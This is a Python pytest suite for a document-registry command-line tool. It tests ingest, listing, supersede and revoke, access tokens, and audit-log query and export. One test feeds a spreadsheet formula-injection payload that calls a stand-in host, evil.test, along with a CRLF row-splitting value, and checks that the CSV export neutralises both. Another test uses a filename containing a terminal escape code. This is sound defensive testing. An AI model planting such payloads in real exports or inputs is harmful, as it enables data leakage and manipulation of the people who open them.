"""ingest, documents, token and log, as a person and as a program use them."""

import csv
import io
import json
import os
import pty
import subprocess
from pathlib import Path
from typing import Any

import pytest

from node.contract.uri import DocumentURI

URI = "in.gov.x-INCOM-001"


@pytest.fixture
def filled(command: Any, node_folder: Path, incoming: Path) -> Path:
    assert command("ingest", incoming).status == 0
    return node_folder


def test_ingest_counts_and_a_second_run_adds_nothing(command: Any, node_folder: Path, incoming: Path) -> None:
    first, second = command("ingest", incoming), command("ingest", incoming)
    assert (first.status, first.out) == (0, "new documents: 3, unchanged: 0\n")
    assert (second.status, second.out) == (0, "new documents: 0, unchanged: 3\n")


def test_refused_files_are_one_line_each_and_status_one(command: Any, node_folder: Path, incoming: Path) -> None:
    (incoming / "in.gov.x/INCOM/A B\x1b[2J.pdf").write_bytes(b"%PDF-1.7\n")
    told = command("ingest", incoming)
    assert told.status == 1
    assert told.out.splitlines()[0].startswith("in.gov.x/INCOM/A B\\x1b[2J.pdf: a document id has")
    lines = [json.loads(line) for line in command("ingest", incoming, "--json", "--dry-run").out.splitlines()]
    assert lines[0].keys() == {"refused", "reason"}
    assert (lines[1]["unchanged"], lines[1]["refused"], lines[1]["dry_run"]) == (3, 1, True)
    assert command("ingest", incoming, "--map-id").status == 0


def test_a_manifest_that_cannot_be_read_stops_before_anything(command: Any, node_folder: Path, incoming: Path) -> None:
    manifest = incoming / "m.csv"
    manifest.write_text("file;issuer;doc_type\n")
    refused = command("ingest", manifest)
    assert (refused.status, "doc_id" in refused.err, command("documents", "list", "--json").json) == (1, True, [])
    manifest.write_bytes(
        "file;issuer;doc_type;doc_id;title;remarks\nin.gov.x/INCOM/001.pdf;i;T;1;José;x\n".encode("cp1252")
    )
    assert "--encoding windows-1252" in command("ingest", manifest).err
    told = command("ingest", manifest, "--encoding", "windows-1252")
    assert (told.status, "remarks" in told.err) == (0, True)
    assert command("documents", "show", "i-T-1", "--json").json["title"] == "José"


def test_a_bar_is_shown_on_a_terminal_and_nowhere_else(
    command: Any, node_folder: Path, incoming: Path, python: str
) -> None:
    (incoming / "loose.pdf").write_bytes(b"%PDF-1.7\n")
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [python, "-c", "from node.cli import main; main()", "ingest", str(incoming)],
        stdout=subprocess.PIPE, stderr=theirs, env={**os.environ, "TERM": "xterm"},
    )  # fmt: skip
    os.close(theirs)
    shown = b""
    while True:
        try:
            piece = os.read(ours, 65536)
        except OSError:  # Linux's word for a terminal that everybody has left
            break
        shown += piece
    os.close(ours)
    out, _ = process.communicate(timeout=60)
    assert b"taking in" in shown
    assert b"loose.pdf: this does not lie in ISSUER/DOCTYPE/" in shown
    assert out == b"new documents: 3, unchanged: 0, refused: 1\n"
    assert "taking in" not in command("ingest", incoming).err


def test_documents_are_listed_shown_superseded_and_revoked(command: Any, filled: Path, tmp_path: Path) -> None:
    listed = command("documents", "list", "--limit", 2, "--json").json
    assert [row["uri"] for row in listed] == ["in.gov.x-INCOM-000", URI]
    rest = command("documents", "list", "--after", URI.upper(), "--json").json
    assert [row["uri"] for row in rest] == ["in.gov.x-INCOM-002"]
    new = tmp_path / "new.pdf"
    new.write_bytes(b"%PDF-1.7\nnew")
    superseded = command("documents", "supersede", URI, new, "--json").json
    assert (superseded["version"], superseded["representations"][0]["size"]) == (2, 12)
    revoked = command("documents", "revoke", URI, "--reason", "Wrong form.", "--json").json
    assert (revoked["status"], revoked["reason"]) == ("revoked", "Wrong form.")
    assert "revoked" in command("documents", "show", URI).out
    assert [row["uri"] for row in command("documents", "list", "--status", "revoked", "--json").json] == [URI]
    for arguments in (("show", "in.gov.x-INCOM-9"), ("show", "nonsense"), ("supersede", URI, new)):
        refused = command("documents", *arguments)
        assert (refused.status, refused.out, refused.err.count("\n")) == (1, "", 1)


def test_tokens_are_made_listed_and_ended(command: Any, node_folder: Path) -> None:
    made = command(
        "token", "create", "--name", "Audit", "--role", "auditor", "--issuer", "in.gov.x", "--days", 7, "--json"
    )
    listed = command("token", "list")
    assert (made.json["role"], made.json["token"] in listed.out, "in.gov.x" in listed.out) == ("auditor", False, True)
    assert command("token", "revoke", made.json["token_id"]).status == 0
    assert command("token", "revoke", made.json["token_id"]).status == 1
    assert [row["state"] for row in command("token", "list", "--json").json] == ["good", "revoked"]


def test_asking_the_log_is_itself_in_the_log_first(command: Any, filled: Path) -> None:
    rows = command("log", "query", "--json").json["rows"]
    assert [row["action"] for row in rows] == ["put", "put", "put", "log.query"]
    assert [row["position"] for row in rows] == [1, 2, 3, 4]
    found = command("log", "query", "--uri", URI.upper(), "--action", "put", "--json").json["rows"]
    assert [row["uri"] for row in found] == [URI]
    assert command("log", "query", "--limit", 2, "--json").json["next_after"] == 2
    assert [row["position"] for row in command("log", "query", "--after", 3, "--limit", 1, "--json").json["rows"]] == [
        4
    ]
    queries = command("log", "query", "--action", "log.query", "--json").json["rows"]
    assert len(queries) == 5
    assert (queries[0]["role"], queries[0]["token_name"]) == ("command", "log query")
    assert "client_id" not in queries[0]
    assert command("log", "query", "--client-id", "log query", "--json").json["rows"] == []
    heading, first, *_ = command("log", "query", "--action", "put").out.splitlines()
    columns = {name: heading.index(name) for name in heading.split()}
    assert first[columns["ROLE"] : columns["WHO"]].strip() == "command"
    assert first[columns["WHO"] : columns["PURPOSE"]].strip() == "ingest"


def test_an_export_is_whole_in_every_form_and_never_over_an_earlier_one(
    command: Any, filled: Path, tmp_path: Path
) -> None:
    file = tmp_path / "log.csv"
    told = command("log", "export", "--format", "csv", "--output", file, "--json").json
    rows = list(csv.DictReader(io.StringIO(file.read_text(encoding="utf-8"), newline="")))
    assert (told["rows"], len(rows), rows[0]["uri"][:9]) == (4, 4, "in.gov.x-")
    assert len(command("log", "export", "--format", "json").json) == 5
    assert [json.loads(line)["position"] for line in command("log", "export").out.splitlines()] == [1, 2, 3, 4, 5, 6]
    assert command("log", "export", "--output", file).status == 2


def test_nothing_typed_runs_in_a_spreadsheet_or_breaks_a_row(command: Any, filled: Path) -> None:
    hostile = '=HYPERLINK("http://evil.test/?"&A1,"open")'
    command("log", "query", "--uri", hostile)
    command("log", "query", "--uri", "-1\r\n2026-04-01T00:00:00Z,read")
    out = command("log", "export", "--format", "csv", "--action", "log.query").out
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == 1 + 3
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert "'" + hostile in rows[1]
    assert "\x1b" not in command("log", "query").out


def test_uris_with_mapped_ids_are_found_again(command: Any, node_folder: Path, incoming: Path) -> None:
    (incoming / "in.gov.x/INCOM/प्रमाण.pdf").write_bytes(b"%PDF-1.7\n")
    command("ingest", incoming, "--map-id")
    listed = [row["uri"] for row in command("documents", "list", "--json").json]
    assert any("~E0~A4" in uri for uri in listed)
    assert DocumentURI.build("in.gov.x", "INCOM", listed[-1].removeprefix("in.gov.x-INCOM-"))
